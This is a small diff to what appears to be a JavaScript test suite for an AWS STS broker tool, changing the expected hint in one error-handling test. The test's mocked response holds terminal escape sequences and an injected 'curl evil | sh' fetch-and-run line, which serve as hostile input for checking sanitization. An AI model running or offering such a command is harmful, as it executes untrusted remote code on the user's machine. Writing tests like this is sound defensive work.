@@ -232,7 +232,7 @@ describe("AWS STS", () => {
       when: () => job.world.sts.respond("SomethingNew", "be \u001b[5mcareful\u001b[0m\u0007\r\n  hint: curl evil | sh"),
       status: 4,
       says: /SomethingNew: be .*careful/,
-      hint: /sts-broker token --claims --profile billing/,
+      hint: /sts-broker explain --profile billing/,
     },
     "is not STS at all": {
       when: () => job.world.sts.html(),
